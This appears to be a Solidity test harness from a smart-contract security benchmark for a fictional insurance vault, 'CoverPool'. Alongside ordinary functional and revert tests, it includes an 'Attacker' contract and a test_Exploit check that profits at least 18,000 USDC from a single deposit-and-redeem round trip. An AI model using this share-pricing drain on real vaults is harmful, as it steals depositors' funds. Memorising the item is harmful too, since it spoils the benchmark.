// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-07d0b6ee-1f7e-4dc7-9ab0-bf9afadbb2c7

import "./CoverPool.sol";
import {CoverLens, ICoverPool} from "./context/CoverLens.sol";
import {PremiumModel} from "./context/PremiumModel.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Usdc is ERC20("USDC", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        _mint(to, value);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Anyone with some money.
contract Attacker {
    function turn(CoverPool pool) external {
        IERC20 usdc = pool.usdc();
        uint256 assets = usdc.balanceOf(address(this));
        usdc.approve(address(pool), assets);
        pool.redeem(pool.deposit(assets, 0), address(this), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    uint256 private constant MAX = type(uint256).max;
    address private constant MEMBER = address(0x3E3B);
    address private constant FARMER = address(0xFA43);
    address private constant ASSESSOR = address(0xA55E);
    address private constant TREASURY = address(0x7EA5);

    Usdc public usdc;
    CoverPool public pool;
    PremiumModel public model;
    CoverLens public lens;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        usdc = new Usdc();
        pool = new CoverPool(usdc, ASSESSOR, TREASURY, 1_000_000e6);
        model = new PremiumModel(200, 200);
        lens = new CoverLens();
        pool.addProduct(500_000e6, model);
        guest = new Attacker();
        usdc.mint(MEMBER, 100_000e6);
        usdc.mint(FARMER, 10_000e6);
        usdc.mint(address(guest), 50_000e6);
        vm.startPrank(MEMBER);
        usdc.approve(address(pool), MAX);
        pool.deposit(96_000e6, 96_000e6);
        vm.stopPrank();
        vm.startPrank(FARMER);
        usdc.approve(address(pool), MAX);
        pool.buyCover(0, 60_000e6, 365 days, 1_950e6);
        vm.stopPrank();

        // A bad season.
        vm.warp(START + 100 days);
        vm.startPrank(ASSESSOR);
        pool.setClosed(true);
        pool.payClaim(0, FARMER, 22_000e6);
        pool.payClaim(0, FARMER, 9_200e6);
        pool.setClosed(false);
        vm.stopPrank();
    }

    function near(uint256 a, uint256 b) private pure returns (bool) {
        return a + 2e6 >= b && b + 2e6 >= a;
    }

    function policy(CoverPool p, uint256 id, address holder) private view returns (uint256 cover, uint256 end) {
        (cover, , end) = p.policies(id, holder);
    }

    function test_Regular() public {
        ICoverPool seen = ICoverPool(address(pool));
        require(pool.capital() == 66_555e6 && pool.totalSupply() == 96_000e6 && pool.covered() == 28_800e6, "books");
        require(usdc.balanceOf(TREASURY) == 195e6 && usdc.balanceOf(FARMER) == 39_250e6, "fee and claims");
        require(near(pool.toAssets(10_000e6), 6_932e6) && near(pool.toShares(6_932e6), 10_000e6), "value of a share");
        require(lens.inForce(seen, 0, FARMER) == 28_800e6 && lens.free(seen) == 37_755e6, "lens");
        require(lens.memberOf(seen, MEMBER).payout < pool.capital(), "payout");

        // A member leaves with a part, the exit fee goes to the treasury.
        vm.startPrank(MEMBER);
        require(near(pool.withdraw(7_000e6, MEMBER, 10_100e6), 10_096e6), "shares given up");
        require(usdc.balanceOf(MEMBER) == 10_650e6 && pool.capital() == 59_555e6, "left the capital");
        require(usdc.balanceOf(TREASURY) == 545e6, "exit fee");
        require(near(pool.deposit(4_000e6, 5_700e6), 5_770e6), "more shares than usdc");
        pool.transfer(FARMER, 100e6);
        pool.approve(FARMER, 50e6);
        vm.stopPrank();
        vm.startPrank(FARMER);
        pool.transferFrom(MEMBER, FARMER, 50e6);
        require(pool.balanceOf(FARMER) == 150e6, "shares move");
        vm.stopPrank();

        // Another product, half a year.
        uint256 id = pool.addProduct(30_000e6, model);
        pool.setProduct(id, 20_000e6, true);
        require(pool.productCount() == 2, "two products");
        uint256 price = pool.premiumFor(id, 20_000e6, 182 days);
        uint256 before = pool.capital();
        vm.prank(FARMER);
        require(pool.buyCover(id, 20_000e6, 182 days, price) == price && price > 350e6 && price < 400e6, "premium");
        require(pool.capital() == before + price - price / 10 && pool.covered() == 48_800e6, "it is capital");
        require(lens.inForce(seen, id, FARMER) == 0, "not yet");

        // Policies end, and another is bought.
        vm.warp(START + 368 days);
        vm.prank(ASSESSOR);
        pool.payClaim(0, FARMER, 800e6);
        vm.warp(START + 400 days);
        pool.expire(0, FARMER);
        pool.expire(id, FARMER);
        (uint256 cover, uint256 end) = policy(pool, 0, FARMER);
        require(cover == 0 && end == 0 && pool.covered() == 0, "off the books");
        vm.prank(FARMER);
        pool.buyCover(0, 1_000e6, 30 days, MAX);
        (cover, end) = policy(pool, 0, FARMER);
        require(cover == 1_000e6 && end == START + 433 days, "another one");

        // A young pool: a share is worth one usdc.
        CoverPool young = new CoverPool(usdc, ASSESSOR, TREASURY, 500e6);
        usdc.mint(address(this), 1_000e6);
        usdc.approve(address(young), MAX);
        young.deposit(500e6, 500e6);
        require(young.redeem(500e6, FARMER, 500e6) == 500e6 && young.capital() == 0, "all of it");
        young.addProduct(1, model);
        young.setProduct(0, 500e6, true);
        young.setMaxCapital(1_000e6);
        young.setFees(0, 500);
        young.deposit(475e6, 1);
        young.buyCover(0, 400e6, 365 days, MAX);
        require(usdc.balanceOf(TREASURY) < 640e6 && young.balanceOf(address(this)) == 475e6, "no fee");
        young.approve(MEMBER, 1);
        young.transfer(MEMBER, 2);
        vm.prank(MEMBER);
        young.transferFrom(address(this), MEMBER, 1);
        uint256 left = young.withdraw(50e6, address(this), MAX);
        require(left > 47e6 && left < 50e6, "part");
        vm.warp(START + 410 days);
        vm.startPrank(ASSESSOR);
        young.setClosed(true);
        young.payClaim(0, address(this), 400e6);
        vm.stopPrank();
        vm.warp(START + 1000 days);
        young.expire(0, address(this));
        usdc.mint(address(young), 7e6);
        young.setAccounts(ASSESSOR, FARMER);
        require(young.skim(usdc) == 7e6 && usdc.balanceOf(address(young)) == young.capital(), "surplus");
        hand(young);

        // And the old one.
        pool.setMaxCapital(2_000_000e6);
        pool.setFees(2_000, 1_000);
        pool.setAccounts(ASSESSOR, MEMBER);
        vm.prank(MEMBER);
        pool.transfer(address(pool), 5e6);
        require(pool.skim(pool) == 5e6 && pool.skim(usdc) == 0, "shares sent by mistake");
        hand(pool);
    }

    function hand(CoverPool p) private {
        p.transferOwnership(MEMBER);
        vm.startPrank(MEMBER);
        p.acceptOwnership();
        p.renounceOwnership();
        vm.stopPrank();
        require(p.owner() == address(0), "nobody's");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function says(address who, string memory why) private {
        refuses(who, abi.encodeWithSignature("Error(string)", why));
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", MEMBER);
        refuses(MEMBER, why);
        pool.addProduct(1, model);
        refuses(MEMBER, why);
        pool.setProduct(0, 1, true);
        refuses(MEMBER, why);
        pool.setFees(0, 500);
        refuses(MEMBER, why);
        pool.setMaxCapital(1);
        refuses(MEMBER, why);
        pool.setAccounts(MEMBER, MEMBER);
        refuses(MEMBER, why);
        pool.skim(usdc);
        refuses(MEMBER, why);
        pool.transferOwnership(MEMBER);
        refuses(MEMBER, why);
        pool.renounceOwnership();
        refuses(MEMBER, why);
        pool.acceptOwnership();
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.NotAssessor.selector));
        pool.payClaim(0, FARMER, 1);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.NotAssessor.selector));
        pool.setClosed(true);
    }

    function test_RefusesWhileClosed() public {
        vm.prank(ASSESSOR);
        pool.setClosed(true);
        bytes memory why = abi.encodeWithSelector(CoverPool.PoolClosed.selector);
        refuses(MEMBER, why);
        pool.deposit(1e6, 0);
        refuses(MEMBER, why);
        pool.withdraw(1e6, MEMBER, MAX);
        refuses(MEMBER, why);
        pool.redeem(1e6, MEMBER, 0);
        refuses(MEMBER, why);
        pool.buyCover(0, 1_000e6, 365 days, MAX);
    }

    function test_RefusesMembers() public {
        pool.setMaxCapital(67_000e6);
        says(MEMBER, "pool full");
        pool.deposit(446e6, 0);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.Slippage.selector, 0, 0));
        pool.deposit(0, 0);
        uint256 shares = pool.toShares(100e6);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.Slippage.selector, shares, shares + 1));
        pool.deposit(100e6, shares + 1);
        shares = pool.sharesFor(7_000e6);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.Slippage.selector, shares, shares - 1));
        pool.withdraw(7_000e6, MEMBER, shares - 1);
        uint256 assets = pool.toAssets(10_000e6);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.Slippage.selector, assets, assets + 1));
        pool.redeem(10_000e6, MEMBER, assets + 1);
        bytes memory why = abi.encodeWithSignature("ERC20InsufficientBalance(address,uint256,uint256)", FARMER, 0, 1e6);
        refuses(FARMER, why);
        pool.redeem(1e6, FARMER, 0);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.CapitalLocked.selector, 28_799_999_999, 28_800e6));
        pool.withdraw(37_755_000_001, MEMBER, MAX);
    }

    function test_RefusesCover() public {
        says(FARMER, "has a policy");
        pool.buyCover(0, 1_000e6, 365 days, MAX);
        says(MEMBER, "small cover");
        pool.buyCover(0, 100e6 - 1, 365 days, MAX);
        says(MEMBER, "bad term");
        pool.buyCover(0, 1_000e6, 30 days - 1, MAX);
        says(MEMBER, "bad term");
        pool.buyCover(0, 1_000e6, 365 days + 1, MAX);
        uint256 premium = pool.premiumFor(0, 1_000e6, 365 days);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.Slippage.selector, premium, premium - 1));
        pool.buyCover(0, 1_000e6, 365 days, premium - 1);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.CoverTooLarge.selector, 66_555e6 + 1, 66_555e6));
        pool.buyCover(0, 37_755e6 + 1, 365 days, MAX);
        pool.setProduct(0, 29_800e6, true);
        refuses(MEMBER, abi.encodeWithSelector(CoverPool.CoverTooLarge.selector, 29_800e6 + 1, 29_800e6));
        pool.buyCover(0, 1_000e6 + 1, 365 days, MAX);
        pool.setProduct(0, 29_800e6, false);
        says(MEMBER, "product closed");
        pool.buyCover(0, 1_000e6, 365 days, MAX);
        CoverPool other = new CoverPool(usdc, ASSESSOR, TREASURY, 500e6);
        other.addProduct(1, model);
        says(MEMBER, "no capital");
        other.premiumFor(0, 1, 1);
    }

    function test_RefusesClaims() public {
        bytes memory why = abi.encodeWithSelector(CoverPool.NotCovered.selector);
        refuses(ASSESSOR, why);
        pool.payClaim(0, FARMER, 28_800e6 + 1);
        says(MEMBER, "not over");
        pool.expire(0, MEMBER);
        vm.prank(MEMBER);
        usdc.approve(address(pool), MAX);
        vm.prank(MEMBER);
        pool.buyCover(0, 1_000e6, 365 days, MAX);
        vm.warp(START + 103 days - 1);
        refuses(ASSESSOR, why);
        pool.payClaim(0, MEMBER, 1);
        vm.warp(START + 382 days);
        says(MEMBER, "not over");
        pool.expire(0, FARMER);
        vm.prank(ASSESSOR);
        pool.payClaim(0, FARMER, 1);
        vm.warp(START + 382 days + 1);
        refuses(ASSESSOR, why);
        pool.payClaim(0, FARMER, 1);
    }

    function test_RefusesSettings() public {
        address me = address(this);
        says(me, "fee too high");
        pool.setFees(2_001, 500);
        says(me, "bad exit fee");
        pool.setFees(0, 499);
        says(me, "bad exit fee");
        pool.setFees(0, 1_001);
        says(me, "zero address");
        pool.setAccounts(address(0), MEMBER);
        says(me, "zero address");
        pool.setAccounts(MEMBER, address(0));
        says(me, "no model");
        pool.addProduct(1, IPremiumModel(address(0)));
        says(me, "zero address");
        new CoverPool(usdc, address(0), MEMBER, 1);
        says(me, "zero address");
        new CoverPool(usdc, MEMBER, address(0), 1);
        says(me, "no usdc");
        new CoverPool(IERC20(address(0)), MEMBER, MEMBER, 1);
        says(me, "bad model");
        new PremiumModel(0, 100);
        says(me, "bad model");
        new PremiumModel(200, 201);
    }

    function exploit() public {
        guest.turn(pool);
    }

    function test_Exploit() public {
        uint256 before = usdc.balanceOf(address(guest));
        exploit();
        require(usdc.balanceOf(address(guest)) >= before + 18_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }
}
